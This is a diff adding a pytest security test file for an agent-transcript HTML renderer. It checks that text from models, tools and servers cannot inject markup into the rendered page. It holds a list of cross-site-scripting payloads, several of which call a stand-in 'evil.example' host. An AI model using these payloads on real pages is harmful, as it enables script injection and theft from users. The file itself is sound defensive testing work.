@@ -1,0 +1,190 @@
+"""Whatever a model, a tool or a server writes, the page it is shown on is not theirs."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from agentmagic.display import html
+from agentmagic.display.transcript import Transcript
+from agentmagic.events import Notice, PartDelta, PartStarted, QuestionAnswered, QuestionAsked, StepRetried
+from agentmagic.messages import Media, Resource, Text, ToolCall, ToolResult
+from tests.display.logs import asked_for, carried_out, one_call, one_text, over, reasoning, started, step_over, text
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    '" style="position:fixed;inset:0" x="',
+    "<svg onload=alert(1)><circle/></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<object data=data:text/html,x></object><embed src=x>",
+    "<form action=//evil.example><input name=p><button formaction=javascript:alert(1)>ok</button></form>",
+    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0>",
+    "<base href=//evil.example/>",
+    "<style>*{display:none}</style>",
+    "<!-- <script>alert(1)</script> -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "</div></div></details></td></table><h1>outside",
+    "<details open ontoggle=alert(1)>",
+    "<div><p><b>unclosed <a href='",
+    "</code></pre><script>alert(1)</script>",
+    "```html\n</code></pre><script>alert(1)</script>\n```",
+    '```"onmouseover="alert(1)\nx\n```',
+    "`</code><script>alert(1)</script>`",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/path)",
+    "[x](relative/path)",
+    '[x](https://ok.example "onmouseover=alert(1)")',
+    '[x](https://ok.example "<pre><code>")',
+    '[x](<https://ok.example/" onclick="alert(1)>)',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/pixel.png)",
+    "![x](//evil.example/pixel.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![x](data:text/html,<script>alert(1)</script>)",
+    '![" onerror="alert(1)](data:image/png;base64,AAAA)',
+    '![x](data:image/png;base64,AAAA" onerror="alert(1))',
+    "[![x](https://evil.example/a.png)](javascript:alert(1))",
+    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>|[x](javascript:alert(1))|",
+    "$<img src=x onerror=alert(1)>$ and \\(<script>alert(1)</script>\\)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "<a href=https://ok.example style=background:url(//evil.example)>x</a>",
+    "<b style='background:url(javascript:alert(1))'>x</b>",
+    "<img src=`x`onerror=alert(1)>",
+    "<x onclick=alert(1)>",
+    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    '[{"<script>alert(1)</script>": "<img src=x onerror=alert(1)>"}]',
+    '{"a": "</pre><script>alert(1)</script>"}',
+]
+
+HEADINGS = {"h1", "h2", "h3", "h4", "h5", "h6"}
+FLOW = {"blockquote", "br", "details", "div", "hr", "li", "ol", "p", "pre", "summary", "ul"}
+TABLES = {"table", "tbody", "td", "th", "thead", "tr"}
+TAGS = HEADINGS | FLOW | TABLES | {"a", "b", "code", "del", "em", "img", "s", "samp", "small", "span", "strong"}
+ATTRIBUTES = {"alt", "class", "href", "open", "rel", "src", "start", "style"}
+VOID = {"br", "hr", "img"}
+STYLE = re.compile(
+    r"((align-items|background|border|border-left|border-radius|border-top|color|cursor"
+    r"|display|flex|font-family|font-weight|gap|height|margin"
+    r"|max-width|min-width|overflow|overflow-wrap|overflow-x|padding|padding-left|text-align|text-overflow"
+    r"|vertical-align|white-space|width):(?!.*(url|expression|@|\\))[^;]*(;|$))*"
+)
+
+
+class Guard(HTMLParser):
+    """Reads a page as a browser's tokeniser would, and notes everything that must not be there."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.wrong = []
+        self.path = []
+
+    def handle_starttag(self, tag, attrs):
+        if tag not in TAGS:
+            self.wrong.append(f"<{tag}>")
+        for name, value in attrs:
+            self._check(tag, name, value or "")
+        if tag not in VOID:
+            self.path.append(tag)
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+
+    def handle_endtag(self, tag):
+        if not self.path or self.path.pop() != tag:
+            self.wrong.append(f"</{tag}> out of place")
+
+    def handle_comment(self, data):
+        self.wrong.append(f"<!--{data}-->")
+
+    def handle_decl(self, decl):
+        self.wrong.append(f"<!{decl}>")
+
+    def unknown_decl(self, data):
+        self.wrong.append(f"<![{data}")
+
+    def handle_pi(self, data):
+        self.wrong.append(f"<?{data}>")
+
+    def _check(self, tag, name, value):
+        right = name in ATTRIBUTES
+        if name == "href":
+            right = tag == "a" and re.match(r"(https?://|mailto:)", value) is not None
+        if name == "src":
+            right = re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*", value) is not None
+        if name == "style":
+            right = STYLE.fullmatch(value) is not None
+        if name == "class":
+            right = value in {"agentmagic mathjax_ignore", "mathjax_process"}
+        if not right:
+            self.wrong.append(f"<{tag} {name}={value!r}>")
+
+
+def wrongs(events, **options):
+    guard = Guard()
+    guard.feed(html.render(Transcript(events), **options))
+    guard.close()
+    return guard.wrong + guard.path
+
+
+def everywhere(payload):
+    """A log with the payload in every place that somebody else can write to."""
+    call = ToolCall(payload, payload, {payload: payload, "nested": {payload: [payload]}})
+    parts = (Text(payload), Media("image/png", b"x", payload), Media(payload, b"x", payload))
+    parts = (*parts, Resource(payload, payload, payload, payload))
+    result = ToolResult(payload, payload, parts, "error")
+    return [
+        *[*started(payload), Notice("info", payload), Notice("error", payload)],
+        *[StepRetried(1, 1, 1.0, payload), *reasoning(payload, 0), *text(payload, 1), *asked_for(call, 2)],
+        *[*step_over(), *carried_out(call, result, payload)],
+        *[QuestionAsked("q", payload), QuestionAnswered("q", payload), *over(payload, "error", payload)],
+    ]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_does_no_harm_in_any_place(payload):
+    assert wrongs(everywhere(payload), prompt=True) == []
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_does_no_harm_while_it_is_streaming(payload):
+    transcript = Transcript([*started(), PartStarted(0, "text"), PartStarted(1, "tool_call", payload)])
+    renderer = html.HtmlRenderer(live=True)
+    for letter in payload:
+        transcript.feed(PartDelta(0, letter))
+        transcript.feed(PartDelta(1, letter))
+        guard = Guard()
+        guard.feed(renderer.update(transcript))
+        assert guard.wrong + guard.path == []
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_payload_alone_in_a_result_does_no_harm(payload):
+    assert wrongs(one_call(ToolCall("c", "f", {}), Text(payload))) == []
+
+
+def test_the_guard_itself_sees_what_is_wrong():
+    guard = Guard()
+    guard.feed('<script>x</script><p onclick="x"><a href="javascript:x">x</a></p><!--x--><b style="background:url(x)">')
+    assert len(guard.wrong) == 5
+    assert guard.path == ["b"]
+
+
+def test_all_payloads_together_do_no_harm():
+    assert wrongs(one_text("\n\n".join(PAYLOADS))) == []
